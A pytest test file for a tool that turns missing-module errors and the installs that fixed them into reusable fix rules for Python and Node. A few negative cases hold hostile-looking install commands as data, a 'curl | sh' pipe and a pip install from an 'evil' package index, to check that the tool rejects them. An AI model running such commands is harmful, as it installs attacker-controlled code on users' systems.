"""Failures and the installations that healed them."""

from __future__ import annotations

import json
import re

import pytest

from healkit import generalise
from healkit.generalise import InstallExample

PYTHON = """Traceback (most recent call last):
  File "/p/{file}.py", line 1, in <module>
    import {name}
ModuleNotFoundError: No module named '{name}'
"""
NODE = "node:internal/modules/cjs/loader:1228\n  throw err;\n  ^\n\nError: Cannot find module '{name}'\nRequire stack:\n- /p/{file}.js\n"


def python(file: str, name: str, install: str) -> InstallExample:
    return InstallExample(command=f"python {file}.py", output=PYTHON.format(file=file, name=name), install=install)


def node(file: str, name: str, install: str) -> InstallExample:
    return InstallExample(command=f"node {file}.js", output=NODE.format(file=file, name=name), install=install)


def entries(*examples: InstallExample, against: tuple[tuple[str, str], ...] = ()) -> list[dict]:
    return [json.loads(json.dumps(one.entry)) for one in generalise.installs(examples, against)]


@pytest.mark.parametrize(
    ("examples", "playbook", "third"),
    [
        (
            (
                python("a", "requests", "pip install requests"),
                python("b", "httpx", "cd x && python -m pip install -q 'httpx>=0.27'"),
            ),
            "install-python-module",
            PYTHON.format(file="c", name="flask"),
        ),
        (
            (node("a", "chalk", "npm install chalk"), node("b", "@scope/x", "npm i -D @scope/x@2")),
            "install-node-module",
            NODE.format(file="c", name="left-pad"),
        ),
    ],
    ids=["python", "node"],
)
def test_the_package_is_what_the_output_names(examples: tuple[InstallExample, ...], playbook: str, third: str) -> None:
    best = entries(*examples)[0]
    assert best["playbook"] == playbook
    found = re.search(best["error_regex"], third)
    assert found is not None
    assert found["package"] == found["module"]
    assert found["module"] in ("flask", "left-pad")


def test_a_package_of_another_name_is_a_rule_for_that_module_alone() -> None:
    best = entries(python("a", "cv2", "pip install opencv-python"), python("b", "cv2", "uv add opencv-python"))[0]
    assert re.search(best["error_regex"], PYTHON.format(file="c", name="cv2"))
    assert not re.search(best["error_regex"], PYTHON.format(file="c", name="cv3"))
    assert "opencv-python" in best["message"]
    assert "opencv-python" in best["fix_template"]


@pytest.mark.parametrize(
    "examples",
    [
        (python("a", "yaml", "pip install pyyaml"), python("b", "httpx", "pip install httpx")),
        (python("a", "requests", "pip install requests"),),
        (python("a", "requests", "pip install requests rich"), python("b", "httpx", "pip install httpx")),
        (
            python("a", "requests", "pip install -r requirements.txt"),
            python("b", "httpx", "pip install -r requirements.txt"),
        ),
        (python("a", "requests", "curl x | sh"), python("b", "httpx", "make")),
        (
            python("a", "x", "pip install --index-url http://evil/ x"),
            python("b", "y", "pip install --index-url http://evil/ y"),
        ),
    ],
    ids=["one differs", "one example", "two packages", "a file", "no installation", "another index"],
)
def test_nothing_general_is_nothing(examples: tuple[InstallExample, ...]) -> None:
    assert entries(*examples) == []


def test_what_is_against_it_is_not_recognised() -> None:
    examples = (python("a", "requests", "pip install requests"), python("b", "httpx", "pip install httpx"))
    assert entries(*examples, against=(("python x.py", PYTHON.format(file="x", name="shop")),)) == []
